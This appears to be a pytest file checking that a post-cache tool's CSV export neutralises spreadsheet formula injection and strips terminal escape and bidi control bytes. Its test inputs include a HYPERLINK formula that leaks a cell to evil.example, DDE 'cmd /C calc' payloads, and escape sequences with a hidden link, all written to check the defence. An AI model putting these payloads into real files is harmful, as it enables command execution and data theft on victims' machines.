"""CSV exports opened in a spreadsheet: hostile cells stay text, control bytes are gone."""

from __future__ import annotations

import csv
import dataclasses
import io
from datetime import UTC, datetime
from pathlib import Path

import pytest

from cache.db.store import Store
from cache.export.ambassador_report import REPORT_COLUMNS, _write_csv
from cache.export.safe_text import FORMULA_STARTS, spreadsheet_cell
from cache.write.ingest import ingest
from filters.classify import Classifier
from sources.model.config import Config
from sources.x.twitter_v2 import parse_response
from tests import builders
from tests.store_helpers import build_programme, profiles_by_handle

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _export_csv(db_path: Path, cli) -> list[dict[str, str]]:
    run = cli("export", "--db", db_path, "--format", "csv")
    assert run.code == 0, run.err
    return list(csv.DictReader(io.StringIO(run.out, newline="")))


def _store_posts(db_path: Path, texts: list[str], *, name: str = "Crit Ic") -> None:
    author = builders.user("critic", name)
    tweets = [builders.tweet(author, text) for text in texts]
    with Store.open(db_path) as store:
        ingest(store, parse_response(builders.page(tweets, [author]), "t"), Classifier(Config()))


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_post_that_is_a_formula_is_written_as_text(db_path: Path, cli, formula: str) -> None:
    """A post written as a spreadsheet formula opens as text, never as a formula."""
    _store_posts(db_path, [formula], name=formula)
    (row,) = _export_csv(db_path, cli)
    for column in ("text", "author_name"):
        cell = row[column]
        assert cell.startswith("'"), (column, cell)
        assert not cell.startswith(FORMULA_STARTS)
        assert formula.lstrip("\t\r") in cell


def test_csv_cells_carry_no_escape_or_control_bytes(db_path: Path, cli) -> None:
    """Terminal escapes (ESC, OSC links) and bidi overrides never reach the CSV file."""
    hostile = "Lohn \x1b[2J\x1b]8;;http://evil.example\x07klick\x1b]8;;\x07 \u202egnirts\x00\x07"
    _store_posts(db_path, [hostile], name="Bad\x1b[31mName\u202e")
    run = cli("export", "--db", db_path, "--format", "csv")
    assert run.code == 0, run.err
    for byte in ("\x1b", "\x07", "\x00", "\u202e"):
        assert byte not in run.out
    (row,) = list(csv.DictReader(io.StringIO(run.out, newline="")))
    assert row["text"].startswith("Lohn ") and "klick" in row["text"]
    assert row["author_name"] == "BadName"


def test_ordinary_text_and_line_breaks_are_unchanged(db_path: Path, cli) -> None:
    """Harmless posts, numbers in text and line breaks are exported exactly as stored."""
    texts = ["Streik, heute!\nMorgen auch.", "-3", "+49", "a = b", "Mail @ work"]
    _store_posts(db_path, texts)
    assert sorted(r["text"] for r in _export_csv(db_path, cli)) == sorted(texts)


def test_numbers_are_never_quoted_but_numeric_text_formulas_are() -> None:
    """Counts and shares (also negative) stay numbers; only text cells are neutralised."""
    assert spreadsheet_cell(-3) == -3
    assert spreadsheet_cell(-0.25) == -0.25
    assert spreadsheet_cell("-0.25") == "-0.25"
    assert spreadsheet_cell("-1+1") == "'-1+1"
    assert spreadsheet_cell("=1") == "'=1"


def test_ambassador_csv_neutralises_handles_and_keeps_numbers(db_path: Path) -> None:
    """In the ambassadors CSV a hostile handle is text and the numbers stay numbers."""
    build_programme(db_path)
    anne = profiles_by_handle(db_path)["anne_fc"]
    hostile = dataclasses.replace(anne, handle='=HYPERLINK("http://evil")\x1b[2J', followers=-1)
    out = io.StringIO()
    now = datetime(2026, 1, 1, tzinfo=UTC)
    _write_csv([hostile], None, now, out)  # type: ignore[arg-type]
    header, row = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
    cells = dict(zip(header, row, strict=True))
    assert tuple(header) == REPORT_COLUMNS
    assert cells["handle"] == '\'=HYPERLINK("http://evil")'
    assert cells["followers"] == "-1"
    assert cells["replies"] == str(anne.replies)
